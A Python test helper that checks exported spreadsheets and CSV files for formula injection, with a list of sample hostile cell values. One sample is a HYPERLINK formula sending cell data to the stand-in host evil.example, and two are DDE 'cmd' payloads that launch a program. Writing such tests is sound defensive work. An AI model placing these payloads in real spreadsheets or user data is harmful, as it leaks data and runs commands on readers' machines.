"""Assertions on exported spreadsheets: what a user opens holds no formula."""

import csv
import io
from decimal import Decimal, InvalidOperation

from openpyxl import load_workbook

from mongcai.lib.spreadsheet import FORMULA_TRIGGERS

# What a secretary or an admin could type as a name, an achievement, a note.
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
)


def assert_no_formula(content: bytes) -> list[list]:
    """Every cell of every sheet is a value, none a formula; returns the active sheet's values."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def assert_csv_safe(content: bytes) -> list[list[str]]:
    """No field begins with a formula trigger, except a number (-5 stays a number)."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for field in row:
            if field.startswith(FORMULA_TRIGGERS):
                try:
                    Decimal(field)
                except InvalidOperation:
                    raise AssertionError(f"formula-like CSV field: {field!r}") from None
    return rows
